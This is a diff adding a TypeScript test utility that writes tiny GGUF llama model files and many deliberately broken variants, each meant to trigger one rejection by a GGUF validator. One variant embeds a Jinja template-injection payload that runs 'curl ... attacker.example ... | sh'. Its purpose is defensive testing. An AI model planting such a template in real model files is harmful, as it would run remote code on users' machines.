@@ -1,0 +1,492 @@
+// Test utility (issue 4 §5): writes tiny but valid llama-architecture GGUF v3 models with random
+// weights, a byte-fallback SentencePiece ("llama") vocabulary and a ChatML chat template, plus broken
+// and malicious variants, one per rejection path of inspectGguf. Nothing is downloaded.
+//
+// Layout follows the GGUF spec exactly (little-endian): magic "GGUF", u32 version, u64 tensor_count,
+// u64 kv_count; each KV = gguf string key (u64 length + bytes), u32 value type, value; each tensor
+// info = name, u32 n_dims, u64 dims[n_dims] (ne0 = innermost), u32 ggml type, u64 offset relative to
+// the data section; zero padding to general.alignment (32); then the tensor data, each tensor at an
+// aligned offset.
+import { writeFile } from 'node:fs/promises';
+import type { GgufRejection } from '../formats/gguf/types.js';
+
+export const CHATML_TEMPLATE =
+  "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}";
+
+export const MALICIOUS_TEMPLATE =
+  "{{ cycler.__init__.__globals__.os.popen('curl -s http://attacker.example/x | sh').read() }}" +
+  CHATML_TEMPLATE;
+
+/** Every broken or malicious variant and the rejection inspectGguf must give it. */
+export const GGUF_VARIANT_REJECTIONS = {
+  bad_magic: 'bad_magic',
+  unsupported_version: 'unsupported_version',
+  big_endian: 'unsupported_version',
+  truncated_header: 'truncated',
+  truncated_data: 'tensor_out_of_bounds',
+  data_offset_out_of_bounds: 'data_offset_out_of_bounds',
+  overlapping_tensors: 'tensors_overlap',
+  misaligned_offset: 'misaligned_tensor',
+  out_of_bounds: 'tensor_out_of_bounds',
+  unknown_type: 'unknown_ggml_type',
+  block_size_mismatch: 'block_size_mismatch',
+  huge_string: 'string_too_long',
+  huge_array: 'array_too_long',
+  too_many_kvs: 'too_many_kvs',
+  too_many_tensors: 'too_many_tensors',
+  no_tensors: 'no_tensors',
+  long_key: 'key_too_long',
+  empty_key: 'empty_key',
+  bad_utf8_key: 'invalid_utf8',
+  duplicate_key: 'duplicate_key',
+  nested_array: 'array_nesting_too_deep',
+  unknown_value_type: 'unknown_value_type',
+  invalid_bool: 'invalid_bool',
+  bad_alignment: 'bad_alignment',
+  bad_arch_type: 'bad_metadata_type',
+  duplicate_tensor_name: 'duplicate_tensor_name',
+  long_tensor_name: 'tensor_name_too_long',
+  zero_dimension: 'zero_dimension',
+  rank_too_high: 'bad_rank',
+  dimension_overflow: 'dimension_overflow',
+  chat_template_too_long: 'chat_template_too_long',
+  malicious_template: 'suspicious_chat_template',
+} as const satisfies Record<string, GgufRejection>;
+
+export type GgufBrokenVariant = keyof typeof GGUF_VARIANT_REJECTIONS;
+export type GgufVariant = 'valid' | GgufBrokenVariant;
+
+export interface TinyLlamaGgufOptions {
+  /** PRNG seed for the weights (default 1). */
+  seed?: number;
+  /** Matrix weight type; norms are always F32 (default 'f32'). */
+  weightType?: 'f32' | 'f16';
+  nEmbd?: number;
+  nLayer?: number;
+  nHead?: number;
+  nHeadKv?: number;
+  nFf?: number;
+  contextLength?: number;
+  /** Defaults to a ChatML template. */
+  chatTemplate?: string;
+  name?: string;
+  version?: 2 | 3;
+  variant?: GgufVariant;
+}
+
+export interface TinyGgufTensor {
+  name: string;
+  type: 'F32' | 'F16';
+  dims: number[];
+  offset: number;
+  sizeBytes: number;
+}
+
+export interface TinyGguf {
+  buffer: Buffer;
+  dataOffset: number;
+  tensors: TinyGgufTensor[];
+  vocabSize: number;
+  variant: GgufVariant;
+  /** The rejection inspectGguf must report; undefined for 'valid'. */
+  expected: GgufRejection | undefined;
+}
+
+// --- encoding helpers ---------------------------------------------------------------------------
+
+const T = {
+  U8: 0,
+  I8: 1,
+  U16: 2,
+  I16: 3,
+  U32: 4,
+  I32: 5,
+  F32: 6,
+  BOOL: 7,
+  STRING: 8,
+  ARRAY: 9,
+  U64: 10,
+  I64: 11,
+  F64: 12,
+} as const;
+
+function u32(n: number): Buffer {
+  const b = Buffer.alloc(4);
+  b.writeUInt32LE(n >>> 0);
+  return b;
+}
+function u64(n: number | bigint): Buffer {
+  const b = Buffer.alloc(8);
+  b.writeBigUInt64LE(BigInt(n));
+  return b;
+}
+function ggufString(s: string | Buffer): Buffer {
+  const bytes = typeof s === 'string' ? Buffer.from(s, 'utf8') : s;
+  return Buffer.concat([u64(bytes.length), bytes]);
+}
+
+interface Kv {
+  key: Buffer;
+  /** u32 type followed by the encoded value. */
+  value: Buffer;
+}
+
+const kv = (key: string | Buffer, type: number, body: Buffer): Kv => ({
+  key: typeof key === 'string' ? Buffer.from(key, 'utf8') : key,
+  value: Buffer.concat([u32(type), body]),
+});
+const kvStr = (key: string, s: string): Kv => kv(key, T.STRING, ggufString(s));
+const kvU32 = (key: string, n: number): Kv => kv(key, T.U32, u32(n));
+const kvF32 = (key: string, x: number): Kv => {
+  const b = Buffer.alloc(4);
+  b.writeFloatLE(x);
+  return kv(key, T.F32, b);
+};
+const kvBool = (key: string, v: boolean): Kv => kv(key, T.BOOL, Buffer.from([v ? 1 : 0]));
+function kvArrStr(key: string, items: string[]): Kv {
+  return kv(
+    key,
+    T.ARRAY,
+    Buffer.concat([u32(T.STRING), u64(items.length), ...items.map((s) => ggufString(s))]),
+  );
+}
+function kvArrF32(key: string, items: number[]): Kv {
+  const b = Buffer.alloc(items.length * 4);
+  items.forEach((x, i) => b.writeFloatLE(x, i * 4));
+  return kv(key, T.ARRAY, Buffer.concat([u32(T.F32), u64(items.length), b]));
+}
+function kvArrI32(key: string, items: number[]): Kv {
+  const b = Buffer.alloc(items.length * 4);
+  items.forEach((x, i) => b.writeInt32LE(x, i * 4));
+  return kv(key, T.ARRAY, Buffer.concat([u32(T.I32), u64(items.length), b]));
+}
+
+/** mulberry32: small, fast, seeded. */
+function mulberry32(seed: number): () => number {
+  let a = seed >>> 0;
+  return () => {
+    a = (a + 0x6d2b79f5) >>> 0;
+    let t = a;
+    t = Math.imul(t ^ (t >>> 15), t | 1);
+    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
+    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
+  };
+}
+
+const f32Scratch = new Float32Array(1);
+const u32Scratch = new Uint32Array(f32Scratch.buffer);
+
+/** IEEE 754 binary32 → binary16 bits, round to nearest. */
+export function toHalf(v: number): number {
+  f32Scratch[0] = v;
+  const x = u32Scratch[0] ?? 0;
+  const sign = (x >>> 16) & 0x8000;
+  const exp = ((x >>> 23) & 0xff) - 127 + 15;
+  let mant = x & 0x7fffff;
+  if (((x >>> 23) & 0xff) === 0xff) return sign | 0x7c00 | (mant ? 0x200 : 0);
+  if (exp <= 0) {
+    if (exp < -10) return sign;
+    mant = (mant | 0x800000) >>> (1 - exp);
+    return sign | ((mant + 0x1000) >>> 13);
+  }
+  const rounded = ((exp << 10) | (mant >>> 13)) + ((mant & 0x1000) >>> 12);
+  return rounded >= 0x7c00 ? sign | 0x7c00 : sign | rounded;
+}
+
+// --- model --------------------------------------------------------------------------------------
+
+interface TensorDraft {
+  name: string;
+  type: 0 | 1;
+  dims: number[];
+  data: Buffer;
+}
+
+interface TensorInfoDraft {
+  name: Buffer;
+  dims: bigint[];
+  type: number;
+  offset: bigint;
+}
+
+function tokenizer(): { tokens: string[]; scores: number[]; types: number[] } {
+  const tokens = ['<unk>', '<s>', '</s>'];
+  const types = [2, 3, 3]; // UNKNOWN, CONTROL, CONTROL
+  for (let b = 0; b < 256; b++) {
+    tokens.push(`<0x${b.toString(16).toUpperCase().padStart(2, '0')}>`);
+    types.push(6); // BYTE
+  }
+  tokens.push('<|im_start|>', '<|im_end|>');
+  types.push(3, 3);
+  return { tokens, scores: tokens.map(() => 0), types };
+}
+
+/** Builds the file in memory. */
+export function buildTinyLlamaGguf(options: TinyLlamaGgufOptions = {}): TinyGguf {
+  const variant: GgufVariant = options.variant ?? 'valid';
+  const nEmbd = options.nEmbd ?? 64;
+  const nLayer = options.nLayer ?? 2;
+  const nHead = options.nHead ?? 4;
+  const nHeadKv = options.nHeadKv ?? nHead;
+  const nFf = options.nFf ?? 128;
+  const ctx = options.contextLength ?? 256;
+  const headDim = nEmbd / nHead;
+  const wType: 0 | 1 = options.weightType === 'f16' ? 1 : 0;
+  const rand = mulberry32(options.seed ?? 1);
+  const gauss = (): number => {
+    const u = rand() || 1e-12;
+    return Math.sqrt(-2 * Math.log(u)) * Math.cos(2 * Math.PI * rand());
+  };
+  const tok = tokenizer();
+  const nVocab = tok.tokens.length;
+
+  const alignment = 32;
+  let template = options.chatTemplate ?? CHATML_TEMPLATE;
+  if (variant === 'malicious_template') template = MALICIOUS_TEMPLATE;
+  if (variant === 'chat_template_too_long') template = 'a'.repeat(1_000_001);
+  let name = options.name ?? 'tiny-llama-test';
+
+  const matrix = (tname: string, dims: number[], std: number): TensorDraft => {
+    const n = dims.reduce((a, b) => a * b, 1);
+    const data = Buffer.alloc(n * (wType === 1 ? 2 : 4));
+    for (let i = 0; i < n; i++) {
+      const x = gauss() * std;
+      if (wType === 1) data.writeUInt16LE(toHalf(x), i * 2);
+      else data.writeFloatLE(x, i * 4);
+    }
+    return { name: tname, type: wType, dims, data };
+  };
+  const norm = (tname: string): TensorDraft => {
+    const data = Buffer.alloc(nEmbd * 4);
+    for (let i = 0; i < nEmbd; i++) data.writeFloatLE(1 + gauss() * 0.01, i * 4);
+    return { name: tname, type: 0, dims: [nEmbd], data };
+  };
+
+  const drafts: TensorDraft[] = [matrix('token_embd.weight', [nEmbd, nVocab], 0.02)];
+  for (let l = 0; l < nLayer; l++) {
+    const p = `blk.${l}.`;
+    drafts.push(
+      norm(`${p}attn_norm.weight`),
+      matrix(`${p}attn_q.weight`, [nEmbd, headDim * nHead], 0.02),
+      matrix(`${p}attn_k.weight`, [nEmbd, headDim * nHeadKv], 0.02),
+      matrix(`${p}attn_v.weight`, [nEmbd, headDim * nHeadKv], 0.02),
+      matrix(`${p}attn_output.weight`, [headDim * nHead, nEmbd], 0.02),
+      norm(`${p}ffn_norm.weight`),
+      matrix(`${p}ffn_gate.weight`, [nEmbd, nFf], 0.02),
+      matrix(`${p}ffn_up.weight`, [nEmbd, nFf], 0.02),
+      matrix(`${p}ffn_down.weight`, [nFf, nEmbd], 0.02),
+    );
+  }
+  drafts.push(norm('output_norm.weight'), matrix('output.weight', [nEmbd, nVocab], 0.02));
+
+  // Data layout: each tensor at an aligned offset.
+  const tensors: TinyGgufTensor[] = [];
+  let cursor = 0;
+  for (const d of drafts) {
+    cursor = Math.ceil(cursor / alignment) * alignment;
+    tensors.push({
+      name: d.name,
+      type: d.type === 1 ? 'F16' : 'F32',
+      dims: d.dims,
+      offset: cursor,
+      sizeBytes: d.data.length,
+    });
+    cursor += d.data.length;
+  }
+  const data = Buffer.alloc(cursor);
+  drafts.forEach((d, i) => d.data.copy(data, tensors[i]?.offset ?? 0));
+
+  const infos: TensorInfoDraft[] = tensors.map((t, i) => ({
+    name: Buffer.from(t.name, 'utf8'),
+    dims: t.dims.map(BigInt),
+    type: drafts[i]?.type ?? 0,
+    offset: BigInt(t.offset),
+  }));
+
+  const build = (): { header: Buffer; dataOffset: number; bodyLength: number } => {
+    const kvs: Kv[] = [
+      kvStr('general.architecture', 'llama'),
+      kvStr('general.name', name),
+      kvU32('general.file_type', wType === 1 ? 1 : 0),
+      kvU32('general.quantization_version', 2),
+      kvU32('llama.context_length', ctx),
+      kvU32('llama.embedding_length', nEmbd),
+      kvU32('llama.block_count', nLayer),
+      kvU32('llama.feed_forward_length', nFf),
+      kvU32('llama.rope.dimension_count', headDim),
+      kvF32('llama.rope.freq_base', 10000),
+      kvU32('llama.attention.head_count', nHead),
+      kvU32('llama.attention.head_count_kv', nHeadKv),
+      kvF32('llama.attention.layer_norm_rms_epsilon', 1e-5),
+      kvU32('llama.vocab_size', nVocab),
+      kvStr('tokenizer.ggml.model', 'llama'),
+      kvArrStr('tokenizer.ggml.tokens', tok.tokens),
+      kvArrF32('tokenizer.ggml.scores', tok.scores),
+      kvArrI32('tokenizer.ggml.token_type', tok.types),
+      kvU32('tokenizer.ggml.bos_token_id', 1),
+      kvU32('tokenizer.ggml.eos_token_id', 2),
+      kvU32('tokenizer.ggml.unknown_token_id', 0),
+      kvBool('tokenizer.ggml.add_bos_token', true),
+      kvBool('tokenizer.ggml.add_eos_token', false),
+      kvStr('tokenizer.chat_template', template),
+    ];
+    let kvCount: bigint | undefined;
+    let tensorCount = BigInt(infos.length);
+    const put = (i: number, entry: Kv): void => {
+      kvs[i] = entry;
+    };
+    switch (variant) {
+      case 'huge_string':
+        put(1, kv('general.name', T.STRING, u64(1n << 40n)));
+        break;
+      case 'huge_array':
+        put(
+          15,
+          kv('tokenizer.ggml.tokens', T.ARRAY, Buffer.concat([u32(T.STRING), u64(1n << 40n)])),
+        );
+        break;
+      case 'too_many_kvs':
+        kvCount = 10_001n;
+        break;
+      case 'too_many_tensors':
+        tensorCount = 200_001n;
+        break;
+      case 'no_tensors':
+        tensorCount = 0n;
+        break;
+      case 'long_key':
+        kvs.push(kvU32(`x.${'k'.repeat(1024)}`, 1));
+        break;
+      case 'empty_key':
+        kvs.push(kvU32('', 1));
+        break;
+      case 'bad_utf8_key':
+        kvs.push(kv(Buffer.from([0x67, 0xff, 0xfe]), T.U32, u32(1)));
+        break;
+      case 'duplicate_key':
+        kvs.push(kvStr('general.name', 'again'));
+        break;
+      case 'nested_array':
+        kvs.push(
+          kv(
+            'test.nested',
+            T.ARRAY,
+            Buffer.concat([u32(T.ARRAY), u64(1), u32(T.U32), u64(1), u32(7)]),
+          ),
+        );
+        break;
+      case 'unknown_value_type':
+        kvs.push(kv('test.unknown', 13, u32(0)));
+        break;
+      case 'invalid_bool':
+        put(21, kv('tokenizer.ggml.add_bos_token', T.BOOL, Buffer.from([2])));
+        break;
+      case 'bad_alignment':
+        kvs.push(kvU32('general.alignment', 48));
+        break;
+      case 'bad_arch_type':
+        put(0, kvU32('general.architecture', 7));
+        break;
+      default:
+        break;
+    }
+    kvCount ??= BigInt(kvs.length);
+
+    const version = variant === 'unsupported_version' ? 4 : (options.version ?? 3);
+    const versionBuf = variant === 'big_endian' ? Buffer.from([0, 0, 0, 3]) : u32(version);
+    const parts: Buffer[] = [
+      Buffer.from(variant === 'bad_magic' ? 'GGUG' : 'GGUF', 'latin1'),
+      versionBuf,
+      u64(tensorCount),
+      u64(kvCount),
+    ];
+    for (const e of kvs) parts.push(ggufString(e.key), e.value);
+    for (const t of infos) {
+      parts.push(ggufString(t.name), u32(t.dims.length));
+      for (const d of t.dims) parts.push(u64(d));
+      parts.push(u32(t.type), u64(t.offset));
+    }
+    const body = Buffer.concat(parts);
+    const dataOffset = Math.ceil(body.length / alignment) * alignment;
+    return {
+      header: Buffer.concat([body, Buffer.alloc(dataOffset - body.length)]),
+      dataOffset,
+      bodyLength: body.length,
+    };
+  };
+
+  // Tensor-info mutations.
+  const first = infos[0];
+  const second = infos[1];
+  const last = infos[infos.length - 1];
+  const norm0 = infos.find((t) => t.name.toString().endsWith('attn_norm.weight'));
+  if (!first || !second || !last || !norm0) throw new Error('tiny model needs tensors');
+  switch (variant) {
+    case 'overlapping_tensors':
+      second.offset = first.offset;
+      break;
+    case 'misaligned_offset':
+      second.offset += 8n;
+      break;
+    case 'out_of_bounds':
+      last.offset += 1n << 20n;
+      break;
+    case 'unknown_type':
+      second.type = 4; // removed Q4_2
+      break;
+    case 'block_size_mismatch':
+      norm0.type = 12; // Q4_K: 256-element blocks, but the row has nEmbd elements
+      break;
+    case 'duplicate_tensor_name':
+      second.name = Buffer.from(first.name);
+      break;
+    case 'long_tensor_name':
+      second.name = Buffer.from(`blk.0.${'x'.repeat(4096)}`);
+      break;
+    case 'zero_dimension':
+      second.dims[0] = 0n;
+      break;
+    case 'rank_too_high':
+      norm0.dims = [...norm0.dims, 1n, 1n, 1n, 1n];
+      break;
+    case 'dimension_overflow':
+      second.dims = [1n << 32n, 1n << 32n];
+      break;
+    default:
+      break;
+  }
+
+  let built = build();
+  if (variant === 'data_offset_out_of_bounds') {
+    // The data section starts at the header end rounded up: end the file at an unaligned header end.
+    while (built.bodyLength % alignment === 0) {
+      name += ' ';
+      built = build();
+    }
+  }
+  let buffer = Buffer.concat([built.header, data]);
+  if (variant === 'truncated_header') buffer = buffer.subarray(0, Math.floor(built.dataOffset / 2));
+  if (variant === 'truncated_data') buffer = buffer.subarray(0, buffer.length - 100);
+  if (variant === 'data_offset_out_of_bounds') {
+    buffer = buffer.subarray(0, built.bodyLength);
+  }
+
+  return {
+    buffer: Buffer.from(buffer),
+    dataOffset: built.dataOffset,
+    tensors,
+    vocabSize: nVocab,
+    variant,
+    expected: variant === 'valid' ? undefined : GGUF_VARIANT_REJECTIONS[variant],
+  };
+}
+
+/** Writes a tiny llama GGUF (or one of its broken variants) to `path`. */
+export async function writeTinyLlamaGguf(
+  path: string,
+  options: TinyLlamaGgufOptions = {},
+): Promise<TinyGguf & { path: string }> {
+  const built = buildTinyLlamaGguf(options);
+  await writeFile(path, built.buffer);
+  return { ...built, path };
+}
